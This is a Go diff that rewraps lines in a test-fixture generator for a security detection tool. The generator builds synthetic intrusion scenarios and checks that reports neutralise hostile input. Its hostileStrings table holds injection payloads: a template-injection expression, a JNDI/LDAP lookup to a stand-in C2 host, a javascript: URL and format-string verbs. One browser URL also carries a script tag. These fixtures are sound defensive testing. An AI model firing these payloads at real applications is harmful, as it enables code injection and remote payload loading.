@@ -11,7 +11,8 @@ import (
 // manyHosts is one incident on three machines: the link on a workstation, a
 // service on a server reached from it, and a workstation that nothing happened to.
 func manyHosts(t *tree) error {
-	p := t.plan("multi-host", "A script from INetCache under Chrome on WS-PUR-09; with the user's password the intruder logs on to SRV-FILE-01 and installs a service; WS-PUR-10 is clean.")
+	p := t.plan("multi-host", "A script from INetCache under Chrome on WS-PUR-09; with the user's password the "+
+		"intruder logs on to SRV-FILE-01 and installs a service; WS-PUR-10 is clean.")
 	m, shell := workstation("WS-PUR-09", "h.jansen", "10.20.11.9", 1240, day(9, 10, 0))
 	chrome := m.browser(shell, chromeEx, "", day(8, 13, 20))
 	at := day(8, 33, 51)
@@ -60,7 +61,8 @@ func manyHosts(t *tree) error {
 	if err := p.write(nil, c); err != nil {
 		return err
 	}
-	p.match(ruleContent, m, samples.Finding, "wscript under Chrome, with a script in INetCache on its command line", child(ws))
+	p.match(ruleContent, m, samples.Finding, "wscript under Chrome, with a script in INetCache on its command line",
+		child(ws))
 	p.match(ruleNetwork, m, samples.Finding, "that wscript resolves a name and connects", child(ws),
 		one("name resolved or connection opened", resolved, connected))
 	p.match(ruleLiteral, m, samples.Finding, "wscript under Chrome, then an executable in Temp 3 s later",
@@ -72,7 +74,8 @@ func manyHosts(t *tree) error {
 // cleared is a machine on which somebody cleared the Security and System logs
 // after the link was opened: 1102 and 104 are the first records left.
 func cleared(t *tree) error {
-	p := t.plan("cleared", "Scenario 1, after which the Security and System logs were cleared. Sysmon still shows the link; 4688 of that time is gone, and coverage must say so.")
+	p := t.plan("cleared", "Scenario 1, after which the Security and System logs were cleared. Sysmon still shows "+
+		"the link; 4688 of that time is gone, and coverage must say so.")
 	p.channels = []string{chSysmon, chSecurity, chSystem}
 	v, _ := linkVictim("WS-FIN-19", "c.weber", "10.20.7.44", 1133)
 	wiped := day(8, 31, 0)
@@ -116,13 +119,16 @@ var hostileStrings = []struct{ what, text string }{
 	{"a template expression", `{{constructor.constructor('alert(1)')()}} ${jndi:ldap://` + c2Host + `/a}`},
 	{"a script URL", `javascript:alert(1)//data:text/html;base64,PHNjcmlwdD4=`},
 	{"format verbs and percent signs", `%s%n%d%%20%TEMP%%4`},
-	{"an emoji, a flag and stacked accents", "\U0001F4B8\U0001F1F3\U0001F1F1e\u0301\u0302\u0303\u0304\u0305\u0306\u0307"},
+	{"an emoji, a flag and stacked accents",
+		"\U0001F4B8\U0001F1F3\U0001F1F1e\u0301\u0302\u0303\u0304\u0305\u0306\u0307"},
 }
 
 // hostile puts strings that attack the reader where a report shows them: into
 // the command lines of findings, user and file names, script blocks and URLs.
 func hostile(t *tree) error {
-	p := t.plan("hostile", "Strings that attack HTML, spreadsheets, terminals and readers, in command lines that the rules find; the longest command lines that a record can hold. Every one must be inert in every output and still readable.")
+	p := t.plan("hostile", "Strings that attack HTML, spreadsheets, terminals and readers, in command lines that "+
+		"the rules find; the longest command lines that a record can hold. Every one must be inert in every "+
+		"output and still readable.")
 	m := newHost("WS-LAB-66", "<b>eve</b>", "10.20.66.6", 1266, day(7, 52, 11))
 	shell := m.start(day(8, 3, 26))
 	chrome := m.browser(shell, chromeEx, "https://"+lureHost+"/?q=<script>alert(1)</script>", day(8, 12, 0))
@@ -163,7 +169,8 @@ func hostile(t *tree) error {
 	}
 	p.match(ruleContent, m, samples.Finding, "a command line of 30,000 characters",
 		one("wscript.exe started by chrome.exe", long.sysmon))
-	p.match(ruleContent, m, samples.Finding, "a command line of 40,000 characters, stored as single bytes", one("wscript.exe started by chrome.exe", wide.sysmon))
+	p.match(ruleContent, m, samples.Finding, "a command line of 40,000 characters, stored as single bytes",
+		one("wscript.exe started by chrome.exe", wide.sysmon))
 	p.done()
 	return nil
 }
